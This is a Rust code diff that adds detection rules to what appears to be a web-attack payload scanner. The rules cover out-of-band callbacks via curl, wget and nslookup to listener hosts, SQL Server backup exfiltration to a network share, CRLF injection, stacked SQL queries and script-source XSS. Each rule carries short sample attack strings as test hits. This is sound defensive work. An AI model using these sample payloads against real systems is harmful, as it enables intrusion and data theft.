@@ -3,6 +3,7 @@
 use super::whole::{QUERY, SHORT};
 use super::{Carriers, Category, Rule, Severity};
 use crate::payload::field::Carrier;
+use crate::payload::recognise::LISTENERS;
 
 pub(super) const RULES: &[Rule] = &[
     // Output into a file that everybody may write, and a file whose name a shell is to find.
@@ -155,5 +156,75 @@ pub(super) const RULES: &[Rule] = &[
             "the regedit tool",
             "which format? c: or d:",
         ],
+    },
+    // A command that calls a host which listens for calls.
+    Rule {
+        id: "rce-calls-home",
+        category: Category::Rce,
+        severity: Severity::Critical,
+        carriers: Carriers::NO_HEADERS
+            .without(Carrier::FileContent)
+            .without(Carrier::Text),
+        any: &[
+            "~nslookup ",
+            "~curl ",
+            "~wget ",
+            "~ping ",
+            "~dig ",
+            "~host ",
+        ],
+        with: &LISTENERS,
+        hits: &["nslookup  a.oast.pro", "wget a.burpcollaborator.net"],
+        misses: &["ping me", "curl up with a book", "a dig at oast.pro"],
+    },
+    Rule {
+        id: "sqli-backup",
+        category: Category::Sqli,
+        severity: Severity::Critical,
+        carriers: Carriers::NO_HEADERS.without(Carrier::Text),
+        any: &["~backup database ", "~restore database ", "~backup log "],
+        with: &["disk=", "disk =", "disks=", "disks ="],
+        hits: &["BACKUP database master to disks='\\\\x.test\\b.dat'"],
+        misses: &["backup database to disk", "restore database: disk full"],
+    },
+    // Two characters whose last bytes are a line break to who cuts them short.
+    Rule {
+        id: "crlf-truncated",
+        category: Category::Crlf,
+        severity: Severity::Critical,
+        carriers: Carriers::ALL,
+        any: &["\u{560a}\u{560d}", "\u{560d}\u{560a}"],
+        with: &[],
+        hits: &["\u{560a}\u{560d}Location:x.test"],
+        misses: &["\u{560a}", "a \u{560d} b"],
+    },
+    Rule {
+        id: "sqli-stacked-show",
+        category: Category::Sqli,
+        severity: Severity::Critical,
+        carriers: SHORT,
+        any: &[
+            ";show tables",
+            "; show tables",
+            ";show databases",
+            "; show databases",
+            ";show columns",
+            "; show columns",
+            ";show grants",
+            "; show grants",
+        ],
+        with: &[],
+        hits: &["1;SHOW TABLES--"],
+        misses: &["show tables", "shows; tables"],
+    },
+    Rule {
+        id: "xss-source",
+        category: Category::Xss,
+        severity: Severity::Critical,
+        carriers: QUERY,
+        any: &[" src=http", " src=//", "\tsrc=http"],
+        with: &[".js^"],
+        hits: &["42 src=https://x.test/a.js"],
+        misses: &["img src", "a src=b.js", "src=http"],
     },
 ];
